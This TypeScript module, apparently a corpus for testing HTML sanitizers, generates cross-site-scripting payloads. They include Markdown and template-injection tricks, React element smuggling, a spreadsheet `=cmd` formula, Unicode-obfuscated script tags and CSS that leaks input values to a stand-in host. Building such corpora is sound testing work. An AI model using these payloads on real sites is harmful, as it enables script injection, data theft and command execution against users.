type Way = (run: string) => string;

const IMG: Way = (run) => `<img src=x onerror="${run}">`;

/** Tricks of Markdown: links that hide markup, fences that never close, titles, references, tables. */
export const MARKDOWN: readonly Way[] = [
  (run) => `[a](https://example.com"onmouseover="${run})`,
  (run) => `[a](https://example.com/'onmouseover='${run})`,
  (run) => `[a](<javascript:${run}>)`,
  (run) => `[a](https://example.com "x" onclick="${run}")`,
  (run) => `[a]: javascript:${run}\n[a]`,
  (run) => `[a]\n\n[a]: data:text/html,<script>${run}</script>`,
  (run) => `![a"onerror="${run}](x)`,
  (run) => `![a](x"onerror="${run})`,
  (run) => `[![a](x)](javascript:${run})`,
  (run) => `[${IMG(run)}](https://example.com)`,
  (run) => `**${IMG(run)}**`,
  (run) => `_${IMG(run)}_`,
  (run) => `\`${IMG(run)}\``,
  (run) => `\`\`\`html\n${IMG(run)}\n\`\`\``,
  (run) => `\`\`\`"><script>${run}</script>\nx`,
  (run) => `- ${IMG(run)}`,
  (run) => `1. ${IMG(run)}`,
  (run) => `> ${IMG(run)}`,
  (run) => `# ${IMG(run)}`,
  (run) => `|a|\n|-|\n|${IMG(run)}|`,
  (run) => `https://example.com/"onmouseover="${run}`,
  (run) => `https://example.com/'><script>${run}</script>`,
  (run) => `https://javascript:${run}@example.com/`,
  (run) => `https://example.com/#${IMG(run)}`,
  (run) => `mailto:a@example.com?body=${IMG(run)}`,
  (run) => `[a](mailto:x"onclick="${run})`,
  (run) => `[a](http:javascript:${run})`,
  (run) => `[a](\\javascript:${run})`,
  (run) => `[a](JAVASCRIPT&#58;${run})`,
  (run) => `<details><summary>x</summary>\n\n${IMG(run)}\n\n</details>`,
  (run) => `[[x](javascript:${run})](https://example.com)`,
  (run) => `*[**_\`${IMG(run)}\`_**](javascript:${run})*`,
];

/** Words of template languages, of React's own documents and of places where texts are put into programs. */
export const TEMPLATES: readonly Way[] = [
  (run) => `{{${run}}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{$on.constructor('${run}')()}}`,
  (run) => `{{_openBlock.constructor('${run}')()}}`,
  (run) => `{{#with this}}{{lookup (lookup this 'constructor') '${run}'}}{{/with}}`,
  (run) => `{${run}}`,
  (run) => `#{${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `<% ${run} %>`,
  (run) => `{% ${run} %}`,
  (run) => `[[${run}]]`,
  (run) => `[(${run})]`,
  (run) => `*{${run}}`,
  (run) => `@(${run})`,
  (run) => `{php}${run}{/php}`,
  (run) => `<?php ${run} ?>`,
  (run) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${run}"}}`,
  (run) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror='${run}'>"}}`,
  (run) => `["$","script",null,{"dangerouslySetInnerHTML":{"__html":"${run}"}}]`,
  (run) => `0:["$","img",null,{"src":"x","onError":"${run}"}]`,
  (run) => `$L1\n1:I["x",[],"${run}"]`,
  (run) => `"])</script><script>${run}</script>`,
  (run) => `{"__proto__":{"innerHTML":"<img src=x onerror='${run}'>"}}`,
  (run) => `__proto__[onload]=${run}`,
  (run) => `=cmd|'/c ${run}'!A1`,
  (run) => `=HYPERLINK("javascript:${run}","x")`,
  (run) => `@SUM(1)*${run}`,
  (run) => `+${run}`,
];

/** Marks that turn the direction of reading, that nobody sees, or that look like something else. */
const UNSEEN = [
  "\u202e",
  "\u202d",
  "\u202a",
  "\u2066",
  "\u2067",
  "\u200b",
  "\u200d",
  "\u200e",
  "\u200f",
  "\u2060",
  "\ufeff",
  "\u00ad",
  "\u034f",
  "\u180e",
  "\u2028",
  "\u0008",
];
export const BIDI: readonly Way[] = [
  ...UNSEEN.map(
    (mark): Way =>
      (run) =>
        `${mark}<img${mark} src=x onerror="${run}">${mark}`,
  ),
  ...UNSEEN.map(
    (mark): Way =>
      (run) =>
        `java${mark}script:${run}`,
  ),
  ...UNSEEN.map(
    (mark): Way =>
      (run) =>
        `<scr${mark}ipt>${run}</scr${mark}ipt>`,
  ),
  (run) => `\uff1cimg src=x onerror=${run}\uff1e`,
  (run) => `\u02c2script\u02c3${run}\u02c2/script\u02c3`,
  (run) => `\ud83d\ude80\ud800<img src=x onerror="${run}">`,
  (run) => `<im\u0131 src=x onerror="${run}"><\u017fcript>${run}</\u017fcript>`,
  (run) => `${"\u0301".repeat(40)}<img src=x onerror="${run}">`,
];

/** Styles that load, cover the page or once ran scripts. */
const ELSEWHERE = "https://xss.invalid";
export const CSS: readonly Way[] = [
  (run) => `<style>@import '${ELSEWHERE}/${run}';</style>`,
  (run) => `<style>*{background:url(${ELSEWHERE}/${run})}</style>`,
  (run) => `<style>input[value^="a"]{background:url(${ELSEWHERE}/a?${run})}</style>`,
  (run) => `<div style="background:url(javascript:${run})">x</div>`,
  (run) => `<div style="width:expression(${run})">x</div>`,
  (run) => `<div style="behavior:url(#x);-moz-binding:url(${ELSEWHERE}#${run})">x</div>`,
  (run) => `<div style="position:fixed;inset:0;z-index:99999" onpointermove="${run}">x</div>`,
  (run) => `;background:url(${ELSEWHERE}/${run});`,
  (run) => `}*{background:url(${ELSEWHERE}/${run})}`,
  (run) => `red;}</style><script>${run}</script>`,
  (run) => `<link rel=stylesheet href="data:text/css,*{background:url(${ELSEWHERE}/${run})}">`,
  (run) => `<link rel=prefetch href="${ELSEWHERE}/${run}">`,
  (run) => `<p style="--x:url(${ELSEWHERE}/${run});background:var(--x)">x</p>`,
  (run) => `<style>@font-face{font-family:x;src:url(${ELSEWHERE}/${run})}*{font-family:x}</style>`,
  (run) => `url("javascript:${run}")`,
  (run) => `\\3c script>${run}\\3c /script>`,
];
